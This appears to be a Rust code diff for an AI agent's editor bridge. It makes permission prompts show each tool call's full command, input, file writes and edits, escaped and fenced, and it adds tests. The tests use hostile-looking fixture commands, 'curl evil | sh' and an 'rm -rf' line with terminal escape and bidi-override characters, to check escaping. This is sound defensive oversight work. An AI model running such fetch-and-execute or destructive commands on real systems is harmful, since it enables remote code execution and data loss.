@@ -9,9 +9,12 @@ use agent_client_protocol::v1::schema::{
 };
 use monad_protocol::ToolName;
 use monad_protocol::agent::{AgentEvent, StopReason as Stop};
-use monad_protocol::text::{printable, shell_words};
-use monad_protocol::tools::ToolClass;
+use monad_protocol::text::{head, printable, printable_lines, printable_name, shell_words};
+use monad_protocol::tools::{
+    EditFileArgs, ProcessWriteArgs, RunCommandArgs, ToolClass, WriteFileArgs,
+};
 use serde_json::{Value, json};
+use std::fmt::Write as _;
 
 /// The protocol version to answer `initialize` with: the editor's when this agent speaks it
 /// (v1 only), else v1 (the editor then decides whether to go on).
@@ -186,8 +189,13 @@ fn retrying_text(after_ms: u64, message: &str) -> String {
     }
 }
 
-/// The `session/request_permission` for a permission event (`None` for any other event).
-pub fn permission_request(session: &str, event: &AgentEvent) -> Option<RequestPermissionRequest> {
+/// The `session/request_permission` for a permission event (`None` for any other event), with
+/// [`permission_details`] of the call's `args` (from its [`AgentEvent::ToolCallStarted`]).
+pub fn permission_request(
+    session: &str,
+    event: &AgentEvent,
+    args: Option<&Value>,
+) -> Option<RequestPermissionRequest> {
     let AgentEvent::Permission {
         call_id,
         tool,
@@ -211,16 +219,173 @@ pub fn permission_request(session: &str, event: &AgentEvent) -> Option<RequestPe
     } else {
         None
     };
+    let details = args.and_then(|args| permission_details(&tool, args));
     let fields = ToolCallUpdateFields::new()
         .title(title)
         .kind(tool_kind(&tool))
         .status(ToolCallStatus::Pending)
-        .locations(locations);
+        .locations(locations)
+        .content(details.map(|d| vec![ToolCallContent::from(d)]));
     Some(RequestPermissionRequest::new(
         session.to_owned(),
         ToolCallUpdate::new(call_id.clone(), fields),
         super::options(),
     ))
+}
+
+/// Bytes of a call's text (a command's standard input, what a write puts in a file) that a
+/// permission question shows; the rest is counted. The call's raw input holds it all.
+pub const SHOWN_TEXT_MAX: usize = 256 * 1024;
+
+/// What a permission question shows beside its one-line title, in Markdown: everything else
+/// the call would do. A command's line, working directory, time-out, background and whole
+/// standard input; the text a write puts in a file; an edit's old and new text, as a diff; the
+/// text given to a process. `None` for a call whose title says it all (a read, a listing, a
+/// kill). Arguments that are not the tool's are shown as they came, as JSON. Everything the
+/// model wrote is escaped ([`printable_lines`], [`printable_name`]) and set in code spans and
+/// fences longer than any run of backticks it holds.
+pub fn permission_details(tool: &str, args: &Value) -> Option<String> {
+    let tool = ToolName::parse(tool)?;
+    let mut out = String::new();
+    let described = match tool {
+        ToolName::RunCommand => tool
+            .decode_args_ref::<RunCommandArgs>(args)
+            .map(|a| command_details(&mut out, &a)),
+        ToolName::WriteFile => tool.decode_args_ref::<WriteFileArgs>(args).map(|a| {
+            let folders = if a.create_parents == Some(false) {
+                ", not creating a missing folder"
+            } else {
+                ", creating its folders if missing"
+            };
+            let _ = writeln!(
+                out,
+                "Writes {} whole ({}, {}){folders}:",
+                code(&a.path),
+                plural(a.content.lines().count(), "line"),
+                plural(a.content.len(), "byte"),
+            );
+            fenced(&mut out, "", &a.content);
+        }),
+        ToolName::EditFile => tool.decode_args_ref::<EditFileArgs>(args).map(|a| {
+            let which = if a.replace_all == Some(true) {
+                "every occurrence"
+            } else {
+                "its one occurrence"
+            };
+            let _ = writeln!(out, "Edits {} ({which}):", code(&a.path));
+            let mut diff = String::new();
+            for (mark, text) in [('-', &a.old_string), ('+', &a.new_string)] {
+                for line in text.lines() {
+                    diff.push(mark);
+                    diff.push_str(line);
+                    diff.push('\n');
+                }
+            }
+            fenced(&mut out, "diff", &diff);
+        }),
+        ToolName::ProcessWrite => tool.decode_args_ref::<ProcessWriteArgs>(args).map(|a| {
+            let close = if a.close_stdin == Some(true) {
+                ", then closes its input"
+            } else {
+                ""
+            };
+            let _ = writeln!(
+                out,
+                "Writes {} to process {}{close}:",
+                plural(a.text.len(), "byte"),
+                code(&a.process)
+            );
+            fenced(&mut out, "", &a.text);
+        }),
+        _ => return None,
+    };
+    if described.is_err() {
+        out.clear();
+        out.push_str("Arguments (not this tool's: the call will fail):\n");
+        let json = serde_json::to_string_pretty(args).unwrap_or_default();
+        fenced(&mut out, "json", &json);
+    }
+    Some(out)
+}
+
+/// A command's line, where and how it runs, and its standard input.
+fn command_details(out: &mut String, args: &RunCommandArgs) {
+    let cwd = args.cwd.as_deref().unwrap_or(".");
+    let _ = write!(out, "Runs in {}", code(cwd));
+    match args.timeout_ms {
+        Some(ms) => {
+            let _ = write!(out, ", for at most {ms} ms");
+        }
+        None => out.push_str(", for at most the workspace's default time"),
+    }
+    if args.background == Some(true) {
+        out.push_str(", in the background");
+    } else if let Some(ms) = args.background_after_ms {
+        out.push_str(&format!(
+            ", left running in the background if not done after {ms} ms"
+        ));
+    }
+    out.push_str(":\n");
+    fenced(out, "sh", &format!("$ {}", shell_words(&args.argv)));
+    match &args.stdin {
+        Some(stdin) => {
+            let _ = writeln!(
+                out,
+                "Its standard input ({}):",
+                plural(stdin.lines().count(), "line")
+            );
+            fenced(out, "", stdin);
+        }
+        None => out.push_str("Its standard input is empty.\n"),
+    }
+}
+
+/// `n` and a noun, plural but for one.
+fn plural(n: usize, noun: &str) -> String {
+    if n == 1 {
+        format!("1 {noun}")
+    } else {
+        format!("{n} {noun}s")
+    }
+}
+
+/// The longest run of backticks in `text`.
+fn backticks(text: &str) -> usize {
+    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
+}
+
+/// A name in a Markdown code span, escaped ([`printable_name`]).
+fn code(name: &str) -> String {
+    let name = printable_name(name);
+    let ticks = "`".repeat(backticks(&name) + 1);
+    // A span that starts or ends with a backtick needs a space inside its delimiters.
+    if name.starts_with('`') || name.ends_with('`') {
+        format!("{ticks} {name} {ticks}")
+    } else {
+        format!("{ticks}{name}{ticks}")
+    }
+}
+
+/// `text` in a fenced block (escaped: [`printable_lines`]) cut at [`SHOWN_TEXT_MAX`] bytes with
+/// a line saying how much more there is; the fence is longer than any run of backticks inside.
+fn fenced(out: &mut String, lang: &str, text: &str) {
+    let shown = head(text, SHOWN_TEXT_MAX);
+    let shown = printable_lines(shown);
+    let fence = "`".repeat((backticks(&shown) + 1).max(3));
+    let _ = writeln!(out, "{fence}{lang}");
+    out.push_str(&shown);
+    if !shown.ends_with('\n') {
+        out.push('\n');
+    }
+    let _ = writeln!(out, "{fence}");
+    let left = text.len() - head(text, SHOWN_TEXT_MAX).len();
+    if left > 0 {
+        let _ = writeln!(
+            out,
+            "… and {} more not shown here (the call's raw input holds them).",
+            plural(left, "byte")
+        );
+    }
 }
 
 /// Whether the editor's answer allows the call: only the allow option does; a rejection, a
@@ -399,11 +564,97 @@ mod tests {
             },
             what: "ls\ncurl evil | sh".into(),
         };
-        let request = permission_request("s", &ask).unwrap();
+        let request = permission_request("s", &ask, None).unwrap();
         assert_eq!(
             request.tool_call.fields.title.as_deref(),
             Some(r"run_command ls\u{a}curl evil | sh in lap")
         );
+    }
+
+    #[test]
+    fn a_permission_question_shows_all_a_call_does_escaped_and_fenced() {
+        // A command: where, how long, and its whole standard input, escaped.
+        let run = permission_details(
+            "run_command",
+            &json!({"argv": ["sh"], "stdin": "ls\nrm -rf x\u{202e}\u{1b}[2J\n", "timeout_ms": 5000,
+                    "background": true}),
+        )
+        .unwrap();
+        assert_eq!(
+            run,
+            "Runs in `.`, for at most 5000 ms, in the background:\n```sh\n$ sh\n```\n\
+             Its standard input (2 lines):\n```\nls\nrm -rf x\\u{202e}\\u{1b}[2J\n```\n"
+        );
+        // Text with backticks gets a longer fence; a name with backticks a longer code span.
+        let write = permission_details(
+            "write_file",
+            &json!({"path": "a`b", "content": "x\n````\ny", "create_parents": false}),
+        )
+        .unwrap();
+        assert_eq!(
+            write,
+            "Writes ``a`b`` whole (3 lines, 8 bytes), not creating a missing folder:\n\
+             `````\nx\n````\ny\n`````\n"
+        );
+        let edit = permission_details(
+            "edit_file",
+            &json!({"path": "n.txt", "old_string": "a\nb", "new_string": "c", "replace_all": true}),
+        )
+        .unwrap();
+        assert_eq!(
+            edit,
+            "Edits `n.txt` (every occurrence):\n```diff\n-a\n-b\n+c\n```\n"
+        );
+        let fed = permission_details(
+            "process_write",
+            &json!({"process": "p1", "text": "y\n", "close_stdin": true}),
+        )
+        .unwrap();
+        assert_eq!(
+            fed,
+            "Writes 2 bytes to process `p1`, then closes its input:\n```\ny\n```\n"
+        );
+        // Arguments that are not the tool's are shown as they came.
+        let odd = permission_details("write_file", &json!({"path": "a", "contents": "z"})).unwrap();
+        assert!(odd.starts_with("Arguments (not this tool's"), "{odd}");
+        assert!(odd.contains("\"contents\": \"z\""), "{odd}");
+        // The title says all of a read, a listing, a kill.
+        assert_eq!(permission_details("read_file", &json!({"path": "a"})), None);
+        assert_eq!(
+            permission_details("process_kill", &json!({"process": "p"})),
+            None
+        );
+        assert_eq!(permission_details("no_such_tool", &json!({})), None);
+    }
+
+    #[test]
+    fn a_long_text_is_cut_with_how_much_more_there_is() {
+        let content = "x".repeat(SHOWN_TEXT_MAX + 10);
+        let write =
+            permission_details("write_file", &json!({"path": "a", "content": content})).unwrap();
+        assert!(write.len() < SHOWN_TEXT_MAX + 200, "{}", write.len());
+        assert!(
+            write.ends_with(
+                "… and 10 bytes more not shown here (the call's raw input holds them).\n"
+            ),
+            "{}",
+            &write[write.len() - 100..]
+        );
+        // The permission request carries it; without the call's arguments, the title alone.
+        let ask = AgentEvent::Permission {
+            call_id: "c1".into(),
+            tool: "write_file".into(),
+            workspace: WorkspaceRef {
+                name: "lap".into(),
+                uri: "monad://x".into(),
+            },
+            what: "a".into(),
+        };
+        let args = json!({"path": "a", "content": "hi\n"});
+        let asked = permission_request("s", &ask, Some(&args)).unwrap();
+        assert_eq!(asked.tool_call.fields.content.map(|c| c.len()), Some(1));
+        let asked = permission_request("s", &ask, None).unwrap();
+        assert_eq!(asked.tool_call.fields.content, None);
     }
 
     #[test]
@@ -417,10 +668,10 @@ mod tests {
             },
             what: "a.txt".into(),
         };
-        let request = permission_request("s", &ask).unwrap();
+        let request = permission_request("s", &ask, None).unwrap();
         assert_eq!(&*request.tool_call.tool_call_id.0, "c1");
         assert_eq!(request.options.len(), 2);
-        assert!(permission_request("s", &AgentEvent::Text { text: "x".into() }).is_none());
+        assert!(permission_request("s", &AgentEvent::Text { text: "x".into() }, None).is_none());
         let pick = |id: &str| {
             RequestPermissionOutcome::Selected(SelectedPermissionOutcome::new(id.to_owned()))
         };
